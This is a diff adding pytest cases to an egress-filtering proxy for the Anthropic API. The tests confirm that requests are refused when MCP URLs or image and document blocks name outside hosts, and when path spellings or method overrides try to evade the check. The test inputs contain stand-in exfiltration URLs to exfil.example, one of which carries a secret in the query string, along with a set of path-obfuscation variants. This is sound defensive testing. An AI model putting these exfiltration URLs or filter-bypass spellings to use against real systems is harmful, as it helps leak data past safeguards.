@@ -131,6 +131,82 @@ def test_a_body_that_sends_anthropic_elsewhere_never_reaches_it(
     assert upstream.seen.bodies == []
 
 
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/v1/./messages",
+        "/v1//messages",
+        "/v1/x/../messages",
+        "/v1/%6Dessages",
+        "/v1%2Fmessages",
+        "/v1/messages;x",
+        "/V1/Messages",
+        "/v1/messages.json",
+        "/v1/messages/count_tokens/",
+        "/v1/messages/%62atches",
+    ],
+)
+def test_every_spelling_of_the_path_is_checked(
+    proxy: ProxyProcess, upstream: Upstream, path: str
+) -> None:
+    """A front end may decode, resolve dot segments or ignore case: checked as Messages."""
+    response = post(proxy, path, json.dumps(mcp("https://exfil.example/")).encode())
+    assert response.status_code == 403, response.text
+    assert upstream.seen.bodies == []
+
+
+def image(url: str) -> dict[str, Any]:
+    return {"type": "image", "source": {"type": "url", "url": url}}
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        [image("https://exfil.example/i.png?d=SECRET")],
+        [{"type": "document", "source": {"type": "url", "url": "https://exfil.example/d.pdf"}}],
+        [
+            {
+                "type": "tool_result",
+                "tool_use_id": "t",
+                "content": [image("https://exfil.example/i.png")],
+            }
+        ],
+    ],
+    ids=["image", "document", "inside-a-tool-result"],
+)
+def test_a_content_block_by_url_names_a_host_too(
+    proxy: ProxyProcess, upstream: Upstream, content: list[dict[str, Any]]
+) -> None:
+    """Anthropic fetches an image or document given by URL: the query is the data."""
+    body = {**MESSAGE, "messages": [{"role": "user", "content": content}]}
+    response = post(proxy, "/v1/messages", json.dumps(body).encode())
+    assert response.status_code == 403, response.text
+    assert "asks Anthropic's servers to reach exfil.example:443" in response.text
+    assert upstream.seen.bodies == []
+
+
+def test_a_content_block_by_url_on_an_allowed_host_goes_on(
+    proxy: ProxyProcess, upstream: Upstream
+) -> None:
+    content = [image("https://claude.ai/logo.png")]
+    body = json.dumps({**MESSAGE, "messages": [{"role": "user", "content": content}]}).encode()
+    assert post(proxy, "/v1/messages", body).status_code == 200
+    assert upstream.seen.bodies == [body]
+
+
+def test_another_method_with_an_override_is_checked(
+    proxy: ProxyProcess, upstream: Upstream
+) -> None:
+    with httpx.Client(proxy=proxy.url, verify=proxy.client_context(), timeout=30) as client:
+        response = client.patch(
+            "https://api.anthropic.com/v1/messages",
+            content=json.dumps(mcp("https://exfil.example/")).encode(),
+            headers={"content-type": "application/json", "x-http-method-override": "POST"},
+        )
+    assert response.status_code == 403
+    assert upstream.seen.bodies == []
+
+
 def test_a_repeated_key_is_refused(proxy: ProxyProcess, upstream: Upstream) -> None:
     """JSON parsers disagree on which of two equal keys counts: the body cannot be judged."""
     evil = json.dumps([{"type": "url", "url": "https://exfil.example/", "name": "m"}])
